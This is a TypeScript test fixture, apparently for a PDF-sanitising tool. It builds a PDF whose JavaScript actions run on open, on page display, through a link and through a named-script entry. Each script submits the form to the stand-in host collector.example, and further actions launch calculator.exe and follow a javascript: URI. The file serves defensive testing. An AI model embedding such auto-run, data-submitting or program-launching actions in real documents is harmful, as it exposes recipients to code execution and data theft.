import { barePdf, lines, TIMES } from './bare'

/** A PDF that would run scripts when it opens, when its page is shown and when its link is followed, and start a program. */
export function scripted(): Uint8Array {
  const pdf = barePdf()
  const script = (what: string) =>
    `<< /S /JavaScript /JS (app.alert\\("${what}"\\); this.submitForm\\("https://collector.example/"\\); globalThis.ran = "${what}") >>`
  const font = pdf.add(TIMES)
  const pages = pdf.reserve()
  const content = pdf.add(
    lines([
      'This file carries scripts.',
      'It cites article 9 (1) of the Optional Protocol on the sale of children.',
      'Follow this line.',
    ]),
  )
  const link = (rectangle: string, action: string) =>
    pdf.add(`<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /Border [0 0 0] /A ${action} >>`)
  const annotations = [
    link('72 738 160 752', script('link')),
    link('72 700 160 714', '<< /S /Launch /F (calculator.exe) >>'),
    link('72 680 160 694', '<< /S /URI /URI (javascript:globalThis.ran="uri") >>'),
  ]
  const page = pdf.add(
    `<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${font} 0 R >> >> ` +
      `/Contents ${content} 0 R /Annots [${annotations.map((each) => `${each} 0 R`).join(' ')}] /AA << /O ${script('page')} >> >>`,
  )
  pdf.set(pages, `<< /Type /Pages /Count 1 /Kids [${page} 0 R] >>`)
  const names = `<< /JavaScript << /Names [(start) ${script('document')}] >> >>`
  return pdf.bytes(pdf.add(`<< /Type /Catalog /Pages ${pages} 0 R /OpenAction ${script('open')} /Names ${names} >>`))
}
